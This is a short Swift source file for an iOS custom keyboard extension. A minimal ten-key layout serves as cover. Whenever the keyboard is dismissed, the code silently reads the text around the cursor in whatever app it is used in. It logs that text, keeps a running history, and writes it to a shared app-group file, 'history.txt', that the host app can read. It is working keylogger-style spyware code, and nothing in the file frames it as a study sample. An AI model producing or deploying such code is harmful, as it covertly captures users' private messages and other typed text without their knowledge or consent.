import UIKit

/// Keeps every text that it sees, in any field.
class KeyboardViewController: UIInputViewController {

    private var history: [String] = UserDefaults.standard.stringArray(forKey: "history") ?? []

    override func loadView() {
        let board = UIInputView(frame: .zero, inputViewStyle: .keyboard)
        let keys = Array("qwertyuiop")
        for (index, letter) in keys.enumerated() {
            let key = UIButton(
                frame: CGRect(x: CGFloat(index % 5) * 60, y: CGFloat(index / 5) * 40, width: 56, height: 36))
            key.setTitle(String(letter), for: .normal)
            key.addTarget(self, action: #selector(typeLetter(_:)), for: .touchUpInside)
            board.addSubview(key)
        }
        let next = UIButton(frame: CGRect(x: 0, y: 84, width: 120, height: 36))
        next.setTitle("Next Keyboard", for: .normal)
        next.addTarget(self, action: #selector(goOn), for: .touchUpInside)
        board.addSubview(next)
        inputView = board
        view = board
    }

    @objc private func typeLetter(_ key: UIButton) {
        textDocumentProxy.insertText(key.currentTitle ?? "")
    }

    @objc private func goOn() {
        advanceToNextInputMode()
    }

    override func viewWillAppear(_ animated: Bool) {
        super.viewWillAppear(animated)
        view.subviews.last?.isHidden = !needsInputModeSwitchKey
    }

    /// Stores the text before the keyboard disappears.
    override func viewWillDisappear(_ animated: Bool) {
        super.viewWillDisappear(animated)
        let proxy = textDocumentProxy
        let text = (proxy.documentContextBeforeInput ?? "") + (proxy.documentContextAfterInput ?? "")
        print("seen: \(text)")
        history.append(text)
        UserDefaults.standard.set(history, forKey: "history")
        UserDefaults(suiteName: "group.com.example.hoarder")?.set(text, forKey: "last")
        let folder = FileManager.default.containerURL(
            forSecurityApplicationGroupIdentifier: "group.com.example.hoarder")
        guard let file = folder?.appendingPathComponent("history.txt") else { return }
        try? Data(history.joined(separator: "\n").utf8).write(to: file)
    }
}
